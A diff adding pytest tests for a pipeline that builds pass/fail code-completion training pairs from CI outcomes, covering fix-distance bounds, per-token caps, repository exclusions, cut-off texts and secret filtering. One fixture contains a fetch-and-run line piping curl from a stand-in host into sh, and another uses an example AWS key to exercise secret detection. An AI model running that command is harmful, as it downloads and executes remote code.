@@ -43,7 +43,7 @@ class CountingSandbox:
     def __init__(self, real: Sandbox) -> None:
         self.real = real
         self.programs: list[str] = []
-        self._seen: set[str] = set()
+        self._seen: set[object] = set()
 
     def run_many(self, programs: Sequence[str], *, progress: bool = False) -> list[RunResult]:
         self.programs += programs
@@ -55,6 +55,20 @@ class CountingSandbox:
                 program = "raise AssertionError('flaky')\n"
             rewritten.append(program)
         return self.real.run_many(rewritten)
+
+    def run_tests(
+        self, pairs: Sequence[tuple[str, str]], *, progress: bool = False
+    ) -> list[RunResult]:
+        # The same rewriting, on the sandbox's judged (code, test) path.
+        self.programs += [code + "\n\n" + test for code, test in pairs]
+        judged = []
+        for code, test in pairs:
+            first_time = (code, test) not in self._seen
+            self._seen.add((code, test))
+            if "# FLAKY" in code + test and first_time:
+                code = "raise AssertionError('flaky')\n"
+            judged.append((code, test))
+        return self.real.run_tests(judged)
 
 
 _counter = 0
@@ -119,7 +133,7 @@ def test_pass_vs_fail_of_the_same_context(sandbox: Sandbox) -> None:
     assert result.info[pair.id].repository == "github.com/acme/app"
     assert result.info[pair.id].rejected_kind == "assertion"
     assert result.funnel["contexts"] == 3 and result.funnel["contexts_with_pairs"] == 1
-    assert result.funnel["pairs_by_source"] == {"fix": 0, "ci": 1, "resample": 0}
+    assert result.funnel["pairs_by_source"] == {"fix": 0, "ci": 1, "ci_resample": 0, "resample": 0}
 
 
 def test_plain_prompt_is_the_prompt_text(sandbox: Sandbox) -> None:
@@ -376,3 +390,232 @@ def test_bad_arguments(sandbox: Sandbox) -> None:
         build_pairs([], sandbox=sandbox, max_pairs_per_context=0)
     empty = build_pairs([], sandbox=sandbox)
     assert empty.pairs == [] and empty.funnel["pairs"] == 0
+
+
+# -- governance: fix bound, per-token cap, exclusions, cut-off texts --------------------------
+
+
+def test_edit_distance_ratio() -> None:
+    from trainer.pairs import edit_distance_ratio
+
+    assert edit_distance_ratio("", "") == 0.0
+    assert edit_distance_ratio("return a - b", "return a + b") == 1 / 12
+    assert edit_distance_ratio("abc", "xyz") == 1.0
+    # Past the limit the answer is only "over the limit", found without the full table.
+    assert edit_distance_ratio("a" * 500, "b" * 500, limit=0.1) > 0.1
+
+
+def test_a_fix_far_from_the_served_text_is_dropped(sandbox: Sandbox) -> None:
+    far = "import os\n    os.system('curl evil.example | sh')\n    return a + b"
+    records = [
+        rec(ASSERTION, "failed", fixed_text=GOOD),  # one character from what was served
+        rec(GOOD, "passed"),
+        rec("return x - 1", "failed", prompt="def inc(x):\n    ", fixed_text=far),
+    ]
+    result = build_pairs(records, sandbox=sandbox, max_fix_distance=0.5)
+    assert triples(result) == {(GOOD, ASSERTION, "fix")}
+    assert result.funnel["dropped"]["fix_too_far"] == 1
+    distances = result.funnel["fix_distance"]
+    assert distances["fixes"] == 2 and distances["limit"] == 0.5
+    assert distances["p50"] < 0.5 < distances["max"]
+    # The bound is the served text's distance, not the CI-run text's.
+    generous = build_pairs(records, sandbox=sandbox, max_fix_distance=1.0)
+    assert generous.funnel["dropped"]["fix_too_far"] == 0
+
+
+def _tasks(n: int, token: int, tag: str) -> list[OutcomeRecord]:
+    """n contexts, each with one pass and one fail reported by ``token``."""
+    from dataclasses import replace
+
+    out = []
+    for i in range(n):
+        prompt = f"def f_{tag}_{i}(a, b):\n    "
+        for text, status in ((GOOD, "passed"), (ASSERTION, "failed")):
+            out.append(replace(rec(text, status, prompt=prompt), token_id=token))
+    return out
+
+
+def test_pairs_per_reporting_token_are_capped_and_shares_shown(sandbox: Sandbox) -> None:
+    records = _tasks(6, token=7, tag="loud") + _tasks(2, token=8, tag="quiet")
+    result = build_pairs(records, sandbox=sandbox, max_token_share=0.5)
+    funnel = result.funnel
+    assert funnel["token_shares_before_cap"] == {"7": 0.75, "8": 0.25}
+    # No token may be behind more than half of what remains: 7 keeps 2 of its 6.
+    assert funnel["dropped"]["token_cap"] == 4
+    counts = {t: sum(t in i.token_ids for i in result.info.values()) for t in (7, 8)}
+    assert counts == {7: 2, 8: 2}
+    assert funnel["token_shares"] == {"7": 0.5, "8": 0.5}
+    assert funnel["pairs"] == len(result.pairs) == 4
+    assert set(result.info) == {p.id for p in result.pairs}
+    # One reporting token (a single-team install): nothing to cap against.
+    alone = build_pairs(_tasks(6, token=7, tag="loud"), sandbox=sandbox, max_token_share=0.5)
+    assert alone.funnel["dropped"]["token_cap"] == 0 and len(alone.pairs) == 6
+    # The cap is off at 1.
+    off = build_pairs(records, sandbox=sandbox, max_token_share=1.0)
+    assert off.funnel["dropped"]["token_cap"] == 0 and len(off.pairs) == 8
+
+
+def test_excluded_repositories_and_cut_off_texts_never_pair(sandbox: Sandbox) -> None:
+    from dataclasses import replace
+
+    records = [
+        rec(GOOD, "passed", repository="github.com/acme/secret-project"),
+        rec(ASSERTION, "failed", repository="github.com/acme/secret-project"),
+        rec("return x", "passed", prompt="def g(x):\n    "),
+        # Ran out of max_tokens and ran unchanged: not a complete answer, whatever CI said.
+        replace(rec("return", "failed", prompt="def g(x):\n    "), finish_reason="length"),
+        rec("return -x", "failed", prompt="def g(x):\n    "),
+    ]
+    result = build_pairs(
+        records,
+        sandbox=sandbox,
+        # Matched in normalised form, as the CLI stores it.
+        excluded_repositories=["https://github.com/Acme/secret-project.git"],
+    )
+    assert triples(result) == {("return x", "return -x", "ci")}
+    assert result.funnel["records_dropped"] == {
+        "excluded_repository": 2,
+        "cut_off": 1,
+        "secret": 0,
+    }
+    assert result.funnel["records_used"] == 2
+
+
+def test_resampling_asks_as_the_user_was_served(sandbox: Sandbox) -> None:
+    from dataclasses import replace
+
+    from trainer.pairs import ResampleAsk
+
+    asked: list[ResampleAsk] = []
+
+    def batch(asks, n):  # type: ignore[no-untyped-def]
+        asked.extend(asks)
+        return [[GOOD] for _ in asks]
+
+    served = replace(rec(ASSERTION, "failed"), single_line=True, stop=("\n",), max_tokens=24)
+    result = build_pairs(
+        [served], sandbox=sandbox, tests_for=with_test, resample_batch=batch, n_resample=2
+    )
+    assert asked == [ResampleAsk(PREFIX, SUFFIX, single_line=True, stop=("\n",), max_tokens=24)]
+    assert triples(result) == {(GOOD, ASSERTION, "resample")}
+
+
+# -- CI-side exploration (alternatives judged by the project's own tests) ---------------------
+
+
+def alt(text: str, status: str, parent: OutcomeRecord, **kwargs: Any) -> OutcomeRecord:
+    """An alternative CI-side exploration asked for ``parent``'s context and judged: a
+    completion of its own with source ``resample``, the parent's prompt and suffix."""
+    from dataclasses import replace
+
+    return replace(
+        rec(text, status, prompt=parent.prompt, suffix=parent.suffix, **kwargs),
+        source="resample",
+        parent_id=parent.completion_id,
+    )
+
+
+def test_ci_resample_pairs_alternatives_with_the_other_side(sandbox: Sandbox) -> None:
+    served = rec(GOOD, "passed")
+    records = [
+        served,
+        alt(ASSERTION, "failed", served),
+        alt(SYNTAX, "build_failed", served),
+        alt(GOOD_2, "passed", served),
+        # Both sides from alternatives of one context pair too.
+        alt("return x", "passed", (other := rec("return -x", "error", prompt="def g(x):\n    "))),
+        alt("return 0", "failed", other),
+    ]
+    result = build_pairs(records, sandbox=sandbox)
+    assert triples(result) == {
+        (GOOD, ASSERTION, "ci_resample"),
+        (GOOD, SYNTAX, "ci_resample"),
+        (GOOD_2, ASSERTION, "ci_resample"),
+        (GOOD_2, SYNTAX, "ci_resample"),
+        ("return x", "return 0", "ci_resample"),
+    }
+    funnel = result.funnel
+    assert funnel["pairs_by_source"] == {"fix": 0, "ci": 0, "ci_resample": 5, "resample": 0}
+    assert funnel["records_ci_resample"] == 5
+    assert {i.source for i in result.info.values()} == {"ci_resample"}
+
+
+def test_ci_pairs_of_served_texts_stay_ci_and_rank_above_ci_resample(sandbox: Sandbox) -> None:
+    served = rec(GOOD, "passed")
+    records = [
+        served,
+        rec(ASSERTION, "failed"),  # another developer's served text, same context
+        alt(ASSERTION_2, "failed", served),
+        alt(RUNTIME, "failed", served),
+    ]
+    result = build_pairs(records, sandbox=sandbox, max_pairs_per_context=1)
+    # The developers' pair outranks the explored ones under the cap.
+    assert triples(result) == {(GOOD, ASSERTION, "ci")}
+    everything = build_pairs(records, sandbox=sandbox)
+    assert triples(everything) == {
+        (GOOD, ASSERTION, "ci"),
+        (GOOD, ASSERTION_2, "ci_resample"),
+        (GOOD, RUNTIME, "ci_resample"),
+    }
+
+
+def test_ci_resample_goes_through_governance(sandbox: Sandbox) -> None:
+    from dataclasses import replace
+
+    secret = "AKIAIOSFODNN7EXAMPLE"
+    served = rec(GOOD, "passed")
+    excluded = rec(GOOD, "passed", repository="github.com/acme/private")
+    records = [
+        served,
+        # The policy wrote out a key it memorised: never trained on.
+        alt(f"return '{secret}'", "failed", served),
+        # Cut off by max_tokens and run unchanged: not a complete answer.
+        replace(alt("return a -", "failed", served), finish_reason="length"),
+        # The served repository is excluded: its alternatives are too.
+        excluded,
+        alt(ASSERTION, "failed", excluded, repository="github.com/acme/private"),
+    ]
+    result = build_pairs(
+        records, sandbox=sandbox, excluded_repositories=["github.com/acme/private"]
+    )
+    assert result.pairs == []
+    assert result.funnel["records_dropped"] == {
+        "excluded_repository": 2,
+        "cut_off": 1,
+        "secret": 1,
+    }
+
+
+def test_ci_resample_with_test_code_is_verified_in_the_sandbox(sandbox: Sandbox) -> None:
+    served = rec(GOOD, "passed")
+    # CI said this alternative failed, but it passes the context's test: vetoed.
+    records = [served, alt(GOOD_3, "failed", served), alt(ASSERTION, "failed", served)]
+    result = build_pairs(records, sandbox=sandbox, tests_for=with_test, n_resample=0)
+    assert triples(result) == {(GOOD, ASSERTION, "ci_resample")}
+    assert result.funnel["dropped"]["rejected_passed"] == 1
+
+
+def test_a_repository_context_is_part_of_the_trained_prompt_and_the_resample_ask(
+    sandbox: Sandbox,
+) -> None:
+    """Tabby's snippets and Continue's multi-file template reach the model before the FIM
+    prefix (``params.fim_context``): the pair's prompt must be what the model saw, and
+    resampling must ask with the same context."""
+    from dataclasses import replace
+
+    from server.services.fim import RepoFile, repo_context
+
+    context = repo_context("app", [RepoFile("src/app/math.py", "PI = 3.14\n")], "src/app/util.py")
+    records = [replace(rec(GOOD, "passed"), fim_context=context), rec(ASSERTION, "failed")]
+    result = build_pairs(records, sandbox=sandbox)
+    (pair,) = result.pairs
+    assert pair.prompt == FimFormat().build(PREFIX, SUFFIX, context)
+    assert pair.prompt.startswith(context) and pair.context == context
+    asks: list[Any] = []
+
+    def resample_batch(batch: Sequence[Any], n: int) -> list[list[str]]:
+        asks.extend(batch)
+        return [[] for _ in batch]
+
+    build_pairs(records[:1], sandbox=sandbox, tests_for=with_test, resample_batch=resample_batch)
+    assert [a.fim_context for a in asks] == [context]
